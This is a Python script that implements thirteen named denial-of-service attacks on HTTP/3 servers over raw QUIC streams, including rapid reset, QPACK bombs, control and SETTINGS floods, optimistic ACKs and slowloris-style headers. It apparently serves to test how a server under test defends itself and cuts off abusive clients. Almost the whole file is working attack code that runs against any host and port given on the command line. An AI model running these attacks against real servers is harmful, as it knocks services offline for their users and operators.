"""Malicious HTTP/3 clients, by raw QUIC streams.

    h3.py ATTACK HOST:PORT SECONDS

Attacks until the server cuts the connection off or the time is over, and prints one JSON object:
whether it was cut off, with which code, after how long, and how many of its streams were refused.
"""

import asyncio
import json
import ssl
import sys
import time

import pylsqpack
from aioquic.asyncio.client import connect
from aioquic.asyncio.protocol import QuicConnectionProtocol
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.events import ConnectionTerminated, StopSendingReceived, StreamDataReceived, StreamReset


def varint(value):
    if value < 0x40:
        return bytes([value])
    if value < 0x4000:
        return (value | 0x4000).to_bytes(2, "big")
    if value < 0x40000000:
        return (value | 0x80000000).to_bytes(4, "big")
    return (value | 0xC000000000000000).to_bytes(8, "big")


def frame(kind, payload):
    return varint(kind) + varint(len(payload)) + payload


class Peer(QuicConnectionProtocol):
    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.cut = False
        self.code = None
        self.refused = set()
        self.answered = {}
        self.streams = 0
        self.begun = time.monotonic()

    def quic_event_received(self, event):
        if isinstance(event, ConnectionTerminated):
            self.cut, self.code = True, event.error_code
        elif isinstance(event, (StreamReset, StopSendingReceived)):
            self.refused.add(event.stream_id)
        elif isinstance(event, StreamDataReceived):
            self.answered[event.stream_id] = self.answered.get(event.stream_id, 0) + len(event.data)

    def control(self, more=b""):
        stream = self._quic.get_next_available_stream_id(is_unidirectional=True)
        self._quic.send_stream_data(stream, b"\x00" + frame(4, b"") + more)
        return stream

    def stream(self, data, end=False):
        stream = self._quic.get_next_available_stream_id()
        self._quic.send_stream_data(stream, data, end)
        self.streams += 1
        return stream

    async def rest(self, seconds=0.01):
        self.transmit()
        await asyncio.sleep(seconds)


def head(path=b"/object", extra=()):
    encoder = pylsqpack.Encoder()
    fields = [(b":method", b"GET"), (b":scheme", b"https"), (b":authority", b"localhost"), (b":path", path)]
    _, block = encoder.encode(0, fields + list(extra))
    return block


async def unfinished(peer, until):
    """Heads announced and begun on every stream, never finished."""
    peer.control()
    while time.monotonic() < until and not peer.cut:
        for _ in range(20):
            if peer._quic._streams_blocked_bidi:
                break
            peer.stream(varint(1) + varint(16000) + b"\x00\x00" + b"\x51\x7f" + b"x" * 8000)
        await peer.rest(0.05)


async def large_frames(peer, until):
    """Unknown frames of a gigabyte before any head."""
    peer.control()
    stream = peer.stream(varint(0x21) + varint(1 << 30))
    while time.monotonic() < until and not peer.cut:
        peer._quic.send_stream_data(stream, b"z" * 4096)
        await peer.rest()


async def small_frames(peer, until):
    """Empty unknown frames without end before any head."""
    peer.control()
    stream = peer.stream(b"")
    while time.monotonic() < until and not peer.cut:
        peer._quic.send_stream_data(stream, b"\x21\x00" * 1000)
        await peer.rest()


async def control_flood(peer, until):
    stream = peer.control()
    while time.monotonic() < until and not peer.cut:
        peer._quic.send_stream_data(stream, frame(0xF0700, b"\x00u=1") * 200)
        await peer.rest()


async def settings_flood(peer, until):
    stream = peer.control()
    while time.monotonic() < until and not peer.cut:
        peer._quic.send_stream_data(stream, frame(4, b"") * 10)
        await peer.rest()


async def qpack_inserts(peer, until):
    """Entries for a dynamic table that wasn't offered."""
    peer.control()
    stream = peer._quic.get_next_available_stream_id(is_unidirectional=True)
    peer._quic.send_stream_data(stream, b"\x02" + b"\x3f\xe1\x1f")
    while time.monotonic() < until and not peer.cut:
        peer._quic.send_stream_data(stream, b"\x41a\x7f\x80\x07" + b"v" * 255)
        await peer.rest()


async def qpack_bomb(peer, until):
    """Thousands of references to the longest static entry in each head."""
    peer.control()
    block = head() + b"\xff\x16" * 7900
    while time.monotonic() < until and not peer.cut:
        for _ in range(5):
            peer.stream(frame(1, block), True)
        await peer.rest(0.02)


async def rapid_reset(peer, until):
    peer.control()
    block = frame(1, head())
    while time.monotonic() < until and not peer.cut:
        for _ in range(20):
            if peer._quic._streams_blocked_bidi:
                break
            stream = peer.stream(block)
            peer.transmit()
            peer._quic.reset_stream(stream, 0x10C)
            peer._quic.stop_stream(stream, 0x10C)
        await peer.rest(0.001)


async def rapid_stop(peer, until):
    """Whole requests whose answers nobody wants any more by the time they are on their way."""
    peer.control()
    block = frame(1, head())
    while time.monotonic() < until and not peer.cut:
        streams = []
        for _ in range(20):
            if peer._quic._streams_blocked_bidi:
                break
            streams.append(peer.stream(block, True))
        await peer.rest(0.001)
        for stream in streams:
            try:
                peer._quic.stop_stream(stream, 0x10C)
            except ValueError:
                # Its answer was faster.
                pass
        await peer.rest(0.001)


async def unread(peer, until):
    """Large responses on every stream, whose window never opens."""
    peer.control()
    for _ in range(60):
        peer.stream(frame(1, head(b"/large")), True)
    while time.monotonic() < until and not peer.cut:
        await peer.rest(0.05)


async def slow_head(peer, until):
    peer.control()
    data = frame(1, head(extra=[(b"x", b"y" * 5000)]))
    stream = peer.stream(data[:1])
    for byte in data[1:-1]:
        if time.monotonic() > until or peer.cut or stream in peer.refused:
            return
        peer._quic.send_stream_data(stream, bytes([byte]))
        await peer.rest(0.1)


async def optimistic_ack(peer, until):
    """Acknowledges packets that it has not seen, to make the server send faster."""
    peer.control()
    peer.stream(frame(1, head(b"/large")), True)
    from aioquic import tls

    space = peer._quic._spaces[tls.Epoch.ONE_RTT]
    while time.monotonic() < until and not peer.cut:
        if len(space.ack_queue):
            space.ack_queue.add(0, space.ack_queue[len(space.ack_queue) - 1].stop + 40)
            space.ack_at = time.monotonic()
        await peer.rest()


async def silent(peer, until):
    while time.monotonic() < until and not peer.cut:
        await peer._quic_ping() if hasattr(peer, "_quic_ping") else peer.ping()
        await asyncio.sleep(0.2)


ATTACKS = {
    "unfinished": unfinished,
    "large-frames": large_frames,
    "small-frames": small_frames,
    "control-flood": control_flood,
    "settings-flood": settings_flood,
    "qpack-inserts": qpack_inserts,
    "qpack-bomb": qpack_bomb,
    "rapid-reset": rapid_reset,
    "rapid-stop": rapid_stop,
    "unread": unread,
    "slow-head": slow_head,
    "optimistic-ack": optimistic_ack,
    "silent": silent,
}


async def main():
    name, address, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    host, port = address.rsplit(":", 1)
    configuration = QuicConfiguration(is_client=True, alpn_protocols=["h3"], verify_mode=ssl.CERT_NONE)
    if name == "unread":
        # As little as QUIC lets a client take, and no more credit after it.
        configuration.max_stream_data = 1024
        QuicConnection._write_connection_limits = lambda *_args, **_kwargs: None
        QuicConnection._write_stream_limits = lambda *_args, **_kwargs: None
    configuration.server_name = "localhost"
    async with connect(host, int(port), configuration=configuration, create_protocol=Peer, wait_connected=True) as peer:
        peer.begun = time.monotonic()
        try:
            await ATTACKS[name](peer, peer.begun + seconds)
        except RuntimeError as error:
            # The server has stopped the stream that the attack writes to.
            if isinstance(error, NotImplementedError):
                raise
        for _ in range(50):
            if peer.cut:
                break
            await peer.rest(0.01)
        took = time.monotonic() - peer.begun
        print(
            json.dumps(
                {
                    "cut": peer.cut,
                    "code": peer.code,
                    "streams": peer.streams,
                    "refused": len(peer.refused),
                    "answered": len([s for s in peer.answered if s % 4 == 0]),
                    "seconds": took,
                }
            ),
            flush=True,
        )
        peer.close()


asyncio.run(main())
